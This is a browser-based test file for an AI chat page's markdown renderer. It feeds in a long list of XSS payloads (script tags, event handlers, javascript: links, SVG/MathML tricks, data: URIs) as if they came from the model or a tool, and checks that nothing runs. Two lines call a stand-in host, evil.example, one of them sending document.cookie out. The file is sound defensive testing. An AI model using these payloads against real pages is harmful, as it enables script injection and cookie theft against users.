"""The chat page's renderer against hostile model and tool output, in a real
browser (Chromium). Two checks each time: the DOM the renderer produced
holds nothing active (no script, no event handler, no SVG/MathML/style/
iframe/image, no link that is not http(s)/mailto, no style attribute), and
nothing ran (every payload would set `window.__pwned` or open a dialog).
The first check is what matters: the page's CSP would also stop most of
these, so "nothing ran" alone could hide a sanitiser bug."""

from __future__ import annotations

import json

import pytest

from tests.support.fake_llm import text, tool_call

pytestmark = [
    pytest.mark.browser,
    pytest.mark.services,
    pytest.mark.e2e,
    pytest.mark.django_db(transaction=True),
]

RUN = "window.__pwned=1"

MODEL_PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    f'<a href="javascript:{RUN}">x</a>',
    "[click](vbscript:msgbox(1))",
    f"<svg onload={RUN}><circle r=1 /></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    "<style>body { display: none }</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "![tracking](https://evil.example/leak?data=secret)",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | <b onmouseover={RUN}>x</b> |",
    f"| [x](javascript:{RUN}) | `<script>` |\n|---|---|\n| 1 | 2 |",
    f"[전화번호-1]<img src=x onerror={RUN}>",
    '<span class="pii revealable" data-token="[전화번호-1]">fake chip</span>',
    f"[[전화번호-1]](javascript:{RUN})",
    f"```html\n<script>{RUN}</script>\n```",
    f'<form action="javascript:{RUN}"><input autofocus onfocus={RUN}></form>',
    f'<a href="https://ok.example" onclick="{RUN}">ok</a>',
    "javascript:alert(1) www.example.com",
    f"<base href=javascript:{RUN}//>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f"<video><source onerror={RUN}></video>",
    # Highlighted code: highlight.js builds <span class="hljs-…"> from the
    # block's text; markup in the code, in its language name or imitating
    # highlight.js's own spans must come out as text.
    f"```sql\nSELECT '<img src=x onerror={RUN}>' AS x -- </span><script>{RUN}</script>\n```",
    f'```html\n<span class="hljs-keyword" onclick="{RUN}">x</span><img src=x onerror={RUN}>\n```',
    f'```"><img src=x onerror={RUN}>\n{RUN}\n```',
    f"```javascript onload={RUN}\nfetch('https://evil.example/'+document.cookie)\n```",
    f"```pii revealable\n[전화번호-1] <svg onload={RUN}>\n```",
    f'```\n<style>* {{ display: none }}</style><math><mi xlink:href="javascript:{RUN}">x</mi></math>\n```',
    f'<code class="language-sql" onmouseover="{RUN}">SELECT 1</code>',
    '<span class="hljs-keyword">not from highlight.js</span>',
]

# What a rendered answer may contain, nothing else.
ALLOWED_TAGS = {
    "DIV", "P", "BR", "HR", "STRONG", "EM", "DEL", "S", "CODE", "PRE", "BLOCKQUOTE", "UL", "OL", "LI",
    "H1", "H2", "H3", "H4", "H5", "H6", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "A", "SPAN",
    "BUTTON",  # the page's own copy button on a code block (checked below)
}  # fmt: skip

AUDIT_DOM = """
(root) => {
  const bad = [];
  const CODE_CLASS = /^(language-[\\w+#.-]+ )?hljs$|^language-[\\w+#.-]+$/;
  const SCOPE = String.raw`(hljs-[\\w-]+|[\\w-]+_+)`;
  const SPAN_CLASS = new RegExp(String.raw`^(pii( \\w+)*|` + `${SCOPE}( ${SCOPE})*)$`);
  for (const node of root.querySelectorAll("*")) {
    if (!ALLOWED.includes(node.tagName)) bad.push("tag " + node.tagName);
    for (const attr of node.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith("on") || name === "style" || name === "src" || name === "srcdoc" || name === "action"
          || name === "formaction" || name === "xlink:href") bad.push(node.tagName + "@" + name);
      if (name === "href" && !/^(https?:|mailto:)/i.test(attr.value.trim())) bad.push("href " + attr.value);
      // Classes: the page's own on DIV/SPAN (chips, blocks), a code block's
      // language and highlight.js's mark on CODE, its scopes on SPAN.
      if (name === "class" && node.tagName === "CODE" && !CODE_CLASS.test(attr.value)) {
        bad.push("CODE class " + attr.value);
      } else if (name === "class" && node.tagName === "SPAN" && !SPAN_CLASS.test(attr.value)) {
        bad.push("SPAN class " + attr.value);
      } else if (name === "class" && !["SPAN", "DIV", "CODE", "BUTTON"].includes(node.tagName)) {
        bad.push(node.tagName + " class " + attr.value);
      }
      if (node.tagName === "BUTTON" && !(["type", "class", "title"].includes(name))) bad.push("BUTTON@" + name);
    }
    if (node.tagName === "BUTTON" && node.className !== "copy-code") bad.push("button " + node.outerHTML);
    // highlight.js's spans hold text only (and chips), never markup of their own.
    const scoped = node.tagName === "SPAN" && /^hljs-/.test(node.className);
    if (scoped && [...node.children].some((c) => c.tagName !== "SPAN")) bad.push("hljs " + node.outerHTML);
    if (node.tagName === "SPAN" && node.classList.contains("pii")
        && (node.children.length || !/^\\[[^\\]]+-\\d+\\]$/.test(node.textContent))) bad.push("chip " + node.outerHTML);
  }
  return bad;
}
""".replace("ALLOWED", json.dumps(sorted(ALLOWED_TAGS)))


def open_chat(chat_env, pages):
    page = pages.open(chat_env.alice)
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.goto(chat_env.url("/"))
    page.wait_for_selector(".empty")
    page.requests = requests
    return page


def nothing_ran(page, pages) -> None:
    page.wait_for_timeout(300)  # handlers that would fire on load/error/focus
    assert page.evaluate("() => window.__pwned") is None
    assert pages.dialogs == []
    assert not [u for u in page.requests if "evil.example" in u or u.startswith("data:")]


def test_the_renderer_neutralises_every_payload(chat_env, pages):
    page = open_chat(chat_env, pages)
    for payload in MODEL_PAYLOADS:
        bad = page.evaluate(
            """([payload, audit]) => {
                const box = document.createElement("div");
                box.className = "markdown";
                box.appendChild(OwlRender.markdown(payload));
                document.getElementById("log").appendChild(box);
                return eval(audit)(box);
            }""",
            [payload, AUDIT_DOM],
        )
        assert bad == [], (payload, bad)
    # The text is shown as text, not dropped.
    shown = page.locator("#log").inner_text()
    assert "<script>" in shown and "onerror" in shown
    chips = page.locator("#log .pii").all_inner_texts()
    assert chips and set(chips) == {"[전화번호-1]"}
    # Code blocks were highlighted (so the payloads went through highlight.js) …
    assert page.locator("#log pre code.hljs .hljs-keyword").count() >= 2
    # … and a span the model wrote is not one: spans come from highlight.js only.
    assert "not from highlight.js" in shown
    assert page.locator("#log span.hljs-keyword", has_text="not from highlight.js").count() == 0
    nothing_ran(page, pages)


def test_highlighted_code_blocks_through_the_whole_stack(chat_env, pages):
    """A streamed answer with hostile code blocks: highlighted, inert, and
    the copy button copies the code as text."""
    code_payloads = [p for p in MODEL_PAYLOADS if p.startswith("```")]
    chat_env.fake.script = [text("\n\n".join(code_payloads))]
    page = open_chat(chat_env, pages)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=chat_env.url(""))
    page.fill("#text", "코드 보여줘")
    page.press("#text", "Enter")
    page.wait_for_function("() => !document.querySelector('.working') && document.querySelector('.row.assistant pre')")
    answer = page.locator(".row.assistant .markdown")
    assert answer.evaluate(f"root => ({AUDIT_DOM})(root)") == []
    assert page.locator(".row.assistant pre code.hljs").count() == len(code_payloads)
    sql = next(n for n, p in enumerate(code_payloads) if p.startswith("```sql"))
    page.locator(".row.assistant pre").nth(sql).hover()
    page.locator(".row.assistant .copy-code").nth(sql).click()
    page.wait_for_function("() => navigator.clipboard.readText().then(t => t.startsWith('SELECT'))")
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied.startswith("SELECT '<img src=x onerror=") and "</span><script>" in copied
    nothing_ran(page, pages)
    page.reload()
    page.wait_for_selector(".row.assistant pre code.hljs")
    assert page.locator(".row.assistant .markdown").evaluate(f"root => ({AUDIT_DOM})(root)") == []
    nothing_ran(page, pages)


def test_hostile_model_and_tool_output_through_the_whole_stack(chat_env, pages):
    hostile_sql = (
        f"SELECT '<img src=x onerror={RUN}>' AS \"<svg onload={RUN}>\", "
        f"'[click](javascript:{RUN})' AS b, '<script>{RUN}</script>' AS c"
    )
    chat_env.fake.script = [
        tool_call("run_sql", {"connection": "sales", "sql": hostile_sql}),
        text("\n\n".join(MODEL_PAYLOADS)),
    ]
    page = open_chat(chat_env, pages)
    page.fill("#text", f"<img src=x onerror={RUN}> 보여줘")
    page.press("#text", "Enter")
    page.wait_for_selector(".step.outcome-success")
    page.wait_for_function("() => !document.querySelector('.working')")
    page.locator(".step summary").click()
    # Tool output: column names and cells as text in the step's table.
    step = page.locator(".step")
    assert f"<svg onload={RUN}>" in step.locator("th").first.inner_text()
    assert f"<img src=x onerror={RUN}>" in step.locator("td").first.inner_text()
    assert page.locator(".bubble.user").inner_text() == f"<img src=x onerror={RUN}> 보여줘"
    for selector in (".row.assistant .markdown", ".step .step-input", ".step .tool-result", ".bubble.user"):
        for index in range(page.locator(selector).count()):
            bad = page.locator(selector).nth(index).evaluate(f"root => ({AUDIT_DOM})(root)")
            assert bad == [], (selector, bad)
    nothing_ran(page, pages)
    page.reload()
    page.wait_for_selector(".step")
    nothing_ran(page, pages)


def test_tool_output_in_a_table_cell_rendered_by_the_demo_model(chat_env, pages):
    """The offline demo model turns rows into a markdown table: HTML in a
    cell must come out as text."""
    page = open_chat(chat_env, pages)
    demo = chat_env.models["owlai-offline-demo"]
    page.select_option("#model", str(demo.pk))
    page.fill("#text", f"@sales SELECT '<img src=x onerror={RUN}>' AS x, '<b onmouseover={RUN}>b</b>' AS y")
    page.press("#text", "Enter")
    page.wait_for_selector(".row.assistant .markdown table")
    page.wait_for_function("() => !document.querySelector('.working')")
    cells = page.locator(".row.assistant .markdown td").all_inner_texts()
    assert cells[:2] == [f"<img src=x onerror={RUN}>", f"<b onmouseover={RUN}>b</b>"]
    bad = page.locator(".row.assistant .markdown").evaluate(f"root => ({AUDIT_DOM})(root)")
    assert bad == []
    nothing_ran(page, pages)
